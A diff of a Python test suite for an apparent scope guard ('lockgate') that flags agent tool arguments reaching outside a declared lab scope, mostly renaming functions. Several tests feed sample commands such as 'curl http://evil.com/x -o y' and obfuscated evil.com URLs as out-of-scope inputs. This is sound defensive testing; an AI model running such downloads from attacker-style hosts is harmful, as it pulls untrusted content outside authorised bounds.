@@ -12,18 +12,18 @@ from hypothesis import strategies as st
 
 from lockgate.core.errors import InvalidConfig
 from lockgate.core.ruling.origins import Leaf
-from lockgate.core.ruling.pipeline import HARD
+from lockgate.core.ruling.pipeline import HARD_RULES
 from lockgate.core.ruling.scope.border import (
     MAX_FINDINGS,
     MAX_TEXT,
     OUTSIDE,
     UNREAD,
     UNREADABLE,
-    border,
-    both,
-    outside,
-    places,
-    scopes_of,
+    border_from_prose,
+    border_from_scope,
+    combine_scopes,
+    find_crossings,
+    split_scopes,
 )
 
 LAB = (
@@ -33,7 +33,7 @@ LAB = (
 
 
 def crossed(text: str, argument: str = "command", scope: str = LAB, tool: str = "") -> list[str]:
-    return [found.rule for found in outside(border(scope), [Leaf(argument, text)], tool=tool)]
+    return [found.rule for found in find_crossings(border_from_scope(scope), [Leaf(argument, text)], tool=tool)]
 
 
 # --- what a scope names
@@ -67,15 +67,20 @@ def crossed(text: str, argument: str = "command", scope: str = LAB, tool: str = 
     ],
 )
 def test_what_a_scope_names(scope: str, inside: list[str]) -> None:
-    assert [str(place) for place in border(scope).inside] == inside
+    assert [str(place) for place in border_from_scope(scope).inside] == inside
 
 
 def test_a_mark_puts_a_place_outside() -> None:
-    edge = border(
+    edge = border_from_scope(
         "*.lab.example, 10.0.0.0/8 !10.0.0.5 /srv !/srv/keys https://a.example !https://a.example/admin "
         "except !mail.lab.example"
     )
-    assert [str(place) for place in edge.never] == ["10.0.0.5/32", "/srv/keys", "a.example/admin", "mail.lab.example"]
+    assert [str(place) for place in edge.excluded] == [
+        "10.0.0.5/32",
+        "/srv/keys",
+        "a.example/admin",
+        "mail.lab.example",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -93,55 +98,64 @@ def test_a_mark_puts_a_place_outside() -> None:
 )
 def test_a_scope_whose_words_could_exclude_a_place_is_refused(scope: str) -> None:
     with pytest.raises(InvalidConfig) as refused:
-        border(scope)
+        border_from_scope(scope)
     assert "is that inside?" in refused.value.message
     assert "!mail.lab.example" in refused.value.hint
 
 
 def test_a_scope_without_places_has_no_border() -> None:
-    assert not border("our own test lab")
+    assert not border_from_scope("our own test lab")
     assert crossed("curl http://anywhere.example", scope="our own test lab") == []
 
 
 def test_words_that_bind_nobody_are_not_refused() -> None:
-    assert [str(place) for place in places("all of src but not /etc, except b.example").inside] == ["/etc", "b.example"]
+    assert [str(place) for place in border_from_prose("all of src but not /etc, except b.example").inside] == [
+        "/etc",
+        "b.example",
+    ]
 
 
 # --- several scopes
 
 
 def test_what_is_inside_two_scopes_is_inside_both() -> None:
-    scope = both("*.lab.example, 10.0.0.0/8", "a.lab.example, b.example")
+    scope = combine_scopes("*.lab.example, 10.0.0.0/8", "a.lab.example, b.example")
     assert crossed("curl http://a.lab.example/", scope=scope) == []
     for text in ("http://c.lab.example/", "http://b.example/", "http://10.0.0.1/", "http://evil.com/"):
         assert crossed(f"curl {text}", scope=scope)
 
 
 def test_a_scope_without_places_adds_no_border_and_takes_none_away() -> None:
-    for scope in (both("our own lab", "*.lab.example"), both("*.lab.example", "our own lab")):
+    for scope in (combine_scopes("our own lab", "*.lab.example"), combine_scopes("*.lab.example", "our own lab")):
         assert crossed("curl http://a.lab.example/", scope=scope) == []
         assert crossed("curl http://evil.com/", scope=scope)
-    assert not border(both("our own lab", "everything"))
+    assert not border_from_scope(combine_scopes("our own lab", "everything"))
 
 
 def test_paths_are_inside_every_scope_that_names_some() -> None:
-    scope = both("/srv", both("*.lab.example", "/srv/samples !/srv/samples/keys"))
+    scope = combine_scopes("/srv", combine_scopes("*.lab.example", "/srv/samples !/srv/samples/keys"))
     assert crossed("/srv/samples/x", "path", scope) == []
     assert crossed("/srv/x", "path", scope)
     assert crossed("/srv/samples/keys/x", "path", scope)
 
 
 def test_several_scopes_are_one_text_that_says_so() -> None:
-    scope = both("*.lab.example", "only a.lab.example")
+    scope = combine_scopes("*.lab.example", "only a.lab.example")
     assert scope == "*.lab.example\n\nand at the same time only within:\n\nonly a.lab.example"
-    assert scopes_of(scope) == ("*.lab.example", "only a.lab.example")
-    assert both(scope, "*.lab.example") == scope == both(scope, scope) == both(scope, "") == both("", scope)
-    assert scopes_of("") == ()
+    assert split_scopes(scope) == ("*.lab.example", "only a.lab.example")
+    assert (
+        combine_scopes(scope, "*.lab.example")
+        == scope
+        == combine_scopes(scope, scope)
+        == combine_scopes(scope, "")
+        == combine_scopes("", scope)
+    )
+    assert split_scopes("") == ()
 
 
 def test_every_one_of_several_scopes_is_checked_for_words_that_exclude() -> None:
     with pytest.raises(InvalidConfig, match="is that inside"):
-        border(both("*.lab.example", "b.example but not c.example"))
+        border_from_scope(combine_scopes("*.lab.example", "b.example but not c.example"))
 
 
 SCOPES = st.sampled_from(
@@ -162,7 +176,7 @@ SCOPES = st.sampled_from(
 def test_a_further_scope_never_lets_more_through(scopes: list[str], host: str) -> None:
     joined = ""
     for scope in scopes:
-        joined = both(joined, scope)
+        joined = combine_scopes(joined, scope)
     apart = any(crossed(f"http://{host}/", "url", scope) for scope in scopes)
     assert bool(crossed(f"http://{host}/", "url", joined)) == apart
 
@@ -600,23 +614,23 @@ def test_an_excluded_network_also_stops_what_overlaps_it() -> None:
 
 
 def test_a_finding_says_what_and_where() -> None:
-    (found,) = outside(border("lab.example"), [Leaf("command", "curl http://evil.com/x -o y")])
+    (found,) = find_crossings(border_from_scope("lab.example"), [Leaf("command", "curl http://evil.com/x -o y")])
     assert found.rule == OUTSIDE
     assert (found.where, found.excerpt) == ("command", "http://evil.com/x")
     assert "curl http://evil.com/x -o y"[found.start : found.end] == "http://evil.com/x"
 
 
 def test_every_finding_is_one_that_no_model_may_clear() -> None:
-    assert all(rule.startswith(HARD) for rule in (OUTSIDE, UNREADABLE, UNREAD))
+    assert all(rule.startswith(HARD_RULES) for rule in (OUTSIDE, UNREADABLE, UNREAD))
 
 
 def test_a_reading_is_named() -> None:
-    (found,) = outside(border("lab.example"), [Leaf("note", "http%3A%2F%2Fevil.com")])
+    (found,) = find_crossings(border_from_scope("lab.example"), [Leaf("note", "http%3A%2F%2Fevil.com")])
     assert (found.reading, found.start) == ("percent", 0)
 
 
 def test_a_control_character_in_an_address_stays_out_of_the_finding() -> None:
-    for found in outside(border("lab.example"), [Leaf("url", "http://evil\x1b[31m.com")]):
+    for found in find_crossings(border_from_scope("lab.example"), [Leaf("url", "http://evil\x1b[31m.com")]):
         assert found.excerpt.isprintable()
 
 
@@ -627,7 +641,7 @@ def test_findings_are_bounded() -> None:
 
 def test_what_was_not_read_is_a_finding() -> None:
     assert crossed("a " * MAX_TEXT) == [UNREAD]
-    assert outside(border("lab.example"), [Leaf("a", "x" * MAX_TEXT), Leaf("b", "http://evil.com")])
+    assert find_crossings(border_from_scope("lab.example"), [Leaf("a", "x" * MAX_TEXT), Leaf("b", "http://evil.com")])
 
 
 # --- for any text
@@ -676,17 +690,17 @@ def test_a_url_that_passes_leads_inside_for_every_parser(url: str) -> None:
 @settings(max_examples=500, deadline=None)
 @given(st.text(max_size=200), st.sampled_from(["url", "command", "path", "x"]))
 def test_no_text_breaks_it(text: str, argument: str) -> None:
-    edge = border(LAB)
-    for found in outside(edge, [Leaf(argument, text)], tool="bash"):
+    edge = border_from_scope(LAB)
+    for found in find_crossings(edge, [Leaf(argument, text)], tool="bash"):
         assert found.rule.startswith("scope:")
-    places(text)
+    border_from_prose(text)
 
 
 @settings(max_examples=500, deadline=None)
 @given(st.text(max_size=120))
 def test_no_scope_breaks_it(scope: str) -> None:
     try:
-        border(scope)
+        border_from_scope(scope)
     except InvalidConfig:
         return
 
@@ -699,12 +713,12 @@ UNITS = (
 
 @pytest.mark.parametrize("unit", UNITS.split("|"))
 def test_hostile_texts_take_time_in_proportion(unit: str) -> None:
-    edge = border(LAB)
+    edge = border_from_scope(LAB)
 
     def spent(size: int) -> float:
         text = (unit * size)[:size]
         began = time.process_time()
-        outside(edge, [Leaf("command", text)])
+        find_crossings(edge, [Leaf("command", text)])
         return time.process_time() - began
 
     small = min(spent(10_000) for _ in range(3))
